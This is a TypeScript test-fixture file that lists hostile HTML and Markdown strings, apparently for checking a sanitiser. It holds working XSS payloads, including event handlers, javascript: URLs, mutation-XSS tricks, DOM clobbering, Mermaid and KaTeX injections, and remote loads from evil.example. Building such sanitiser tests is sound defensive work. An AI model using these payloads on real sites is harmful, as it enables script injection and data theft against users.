/** What every vector tries to do; `window.__xss` stays undefined as long as none gets to. */
const RUN = 'window.__xss=1';

/** HTML that becomes a script, an overlay, or a request to elsewhere in sanitisers that miss something. */
export const hostileHtml: readonly string[] = [
  ...[`<script>${RUN}</script>`, `<SCRIPT\n>${RUN}</SCRIPT >`, `<scr<script>ipt>${RUN}</scr</script>ipt>`],
  ...[`<script src=//evil.example/x.js></script>`, `<script type=module>${RUN}</script>`],
  ...[`<img src=x onerror=${RUN}>`, `<img/src=x/onerror=${RUN}>`, `<img src=x:x onerror\n=\n${RUN}>`],
  ...[
    `<img src="javascript:${RUN}">`,
    `<img srcset="https://evil.example/a 1x" src=x>`,
    `<img src=x loading=lazy onload=${RUN}>`,
  ],
  ...[
    `<svg onload=${RUN}>`,
    `<svg><script>${RUN}</script></svg>`,
    `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x">`,
  ],
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s></svg>`,
  `<svg><set attributeName=href to="javascript:${RUN}" /><a id=x><text>x</text></a></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${RUN}</script>"></iframe></foreignObject></svg>`,
  `<svg><style><img src=x onerror=${RUN}></style></svg>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<math><mi xlink:href="javascript:${RUN}">x</mi></math>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${RUN}></style></annotation-xml></math>`,
  ...[
    `<iframe src="javascript:parent.${RUN}"></iframe>`,
    `<iframe srcdoc="<img src=x onerror=parent.${RUN}>"></iframe>`,
  ],
  ...[
    `<object data="data:text/html,<script>parent.${RUN}</script>"></object>`,
    `<embed src="javascript:${RUN}">`,
  ],
  ...[`<applet code=x></applet>`, `<frameset onload=${RUN}>`, `<portal src=//evil.example></portal>`],
  ...[
    `<base href="https://evil.example/">`,
    `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
  ],
  ...[`<link rel=stylesheet href=https://evil.example/x.css>`, `<link rel=import href=data:text/html,x>`],
  `<style>@import "https://evil.example/x.css";*{background:url(https://evil.example/y)}</style>`,
  ...[
    `<div style="background:url(https://evil.example/x)">x</div>`,
    `<div style="position:fixed;inset:0;z-index:99">x</div>`,
  ],
  `<div style="width:expression(${RUN});behavior:url(x.htc);-moz-binding:url(x)">x</div>`,
  `<div class="fixed inset-0 z-50 bg-surface">covers the app</div>`,
  ...[
    `<a href="javascript:${RUN}">x</a>`,
    `<a href="java&#x09;script:${RUN}">x</a>`,
    `<a href="&#x1;javascript:${RUN}">x</a>`,
  ],
  ...[
    `<a href=" JaVaScRiPt&colon;${RUN}">x</a>`,
    `<a href="vbscript:x">x</a>`,
    `<a href="data:text/html,<script>${RUN}</script>">x</a>`,
  ],
  ...[
    `<a href="https://evil.example" target=_self ping="https://evil.example/p">x</a>`,
    `<a href="x" download="y" data-link="javascript:${RUN}">x</a>`,
  ],
  ...[
    `<area href="javascript:${RUN}"><map name=x></map>`,
    `<button formaction="javascript:${RUN}">x</button>`,
  ],
  ...[
    `<form action="javascript:${RUN}"><input type=submit></form>`,
    `<input type=image src=x onerror=${RUN}>`,
  ],
  ...[
    `<input autofocus onfocus=${RUN}>`,
    `<select autofocus onfocus=${RUN}>`,
    `<textarea autofocus onfocus=${RUN}>`,
    `<keygen autofocus onfocus=${RUN}>`,
  ],
  ...[
    `<video><source onerror=${RUN}></video>`,
    `<video poster=javascript:${RUN}>`,
    `<audio src=x onerror=${RUN}>`,
  ],
  ...[
    `<details open ontoggle=${RUN}>x</details>`,
    `<marquee onstart=${RUN}>x</marquee>`,
    `<body onload=${RUN}>`,
    `<p onclick=${RUN}>x</p>`,
  ],
  ...[
    `<x onclick=${RUN} tabindex=1>x</x>`,
    `<div contenteditable onbeforeinput=${RUN}>x</div>`,
    `<p popover onbeforetoggle=${RUN}>x</p>`,
  ],
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<template><script>${RUN}</script></template><template shadowrootmode=open><img src=x onerror=${RUN}></template>`,
  ...[
    `<!--><img src=x onerror=${RUN}>-->`,
    `<!--!><img src=x onerror=${RUN}>`,
    `<![CDATA[<img src=x onerror=${RUN}>]]>`,
    `<?xml-stylesheet href="javascript:${RUN}"?>`,
  ],
  ...[
    `<title><a title="</title><img src=x onerror=${RUN}>">`,
    `<textarea></textarea><img src=x onerror=${RUN}></textarea>`,
  ],
  ...[`<xmp><p title="</xmp><img src=x onerror=${RUN}>">`, `<plaintext><img src=x onerror=${RUN}>`],
  `<p id="app">x</p><a id="__VUE__">x</a><img name="getElementById"><form id=x><input name=attributes></form>`,
  `<form id=f><img name=parentNode><img name=nodeName><img name=removeChild></form>`,
  ...[`"><img src=x onerror=${RUN}>`, `'-${RUN}-'`, `{{constructor.constructor('${RUN}')()}}`, `\${${RUN}}`],
  `<table><caption><svg><title><table><caption></caption></table><style><a title="</style><img src onerror=${RUN}>"></caption></table>`,
  '<div>'.repeat(600) + `<img src=x onerror=${RUN}>`,
];

/** Markdown that tries the same by its own ways. */
export const hostileMarkdown: readonly string[] = [
  ...hostileHtml,
  ...[
    `[x](javascript:${RUN})`,
    `[x](<java\nscript:${RUN}>)`,
    `[x](&#106;avascript:${RUN})`,
    `<javascript:${RUN}>`,
  ],
  ...[
    `[x](vbscript:x)`,
    `[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==)`,
    `[x](file:///etc/passwd)`,
  ],
  ...[
    `![x](x"onerror="${RUN})`,
    `![x](javascript:${RUN})`,
    `![far](https://evil.example/pixel.png)`,
    `![far](//evil.example/pixel.png)`,
  ],
  ...[
    `[r]: javascript:${RUN}\n\n[r] ![r]`,
    `[x](x "title" onclick="${RUN}")`,
    `[x](x '"><img src=x onerror=${RUN}>')`,
  ],
  ...[
    `[[a|<img src=x onerror=${RUN}>]]`,
    `[[<svg onload=${RUN}>]]`,
    `![[x" onerror="${RUN}]]`,
    `![[a.png|"><script>${RUN}</script>]]`,
  ],
  ...[
    `[[javascript:${RUN}]]`,
    `#a"onclick="${RUN}`,
    `==<img src=x onerror=${RUN}>==`,
    `%%<img src=x onerror=${RUN}>`,
  ],
  ...[
    `- [ ] <img src=x onerror=${RUN}>`,
    `> [!"><img src=x onerror=${RUN}>]\n> x`,
    `> [!note] <img src=x onerror=${RUN}>\n> x`,
  ],
  ...[
    `# <img src=x onerror=${RUN}>`,
    `x ^<img src=x onerror=${RUN}>`,
    `[^<img src=x onerror=${RUN}>]\n\n[^<img src=x onerror=${RUN}>]: x`,
  ],
  `| a |\n|---|\n| <img src=x onerror=${RUN}> |`,
  ...['```"><img src=x onerror=' + RUN + '>\nx\n```', '```html\n<script>' + RUN + '</script>\n```'],
  ...[
    `$\\href{javascript:${RUN}}{x}$`,
    `$\\htmlData{onclick=${RUN}}{x}$`,
    `$\\includegraphics{https://evil.example/x}$`,
  ],
  `$$\\def\\a{\\a\\a}\\a$$`,
  '```mermaid\ngraph TD\n A["<img src=x onerror=' +
    RUN +
    '>"]-->B\n click A "javascript:' +
    RUN +
    '"\n click B call alert()\n```',
  '```mermaid\n%%{init: {"securityLevel":"loose","htmlLabels":true,"themeCSS":"*{background:url(https://evil.example/x)}"}}%%\ngraph LR\n A["<script>' +
    RUN +
    '</script>"]\n```',
];
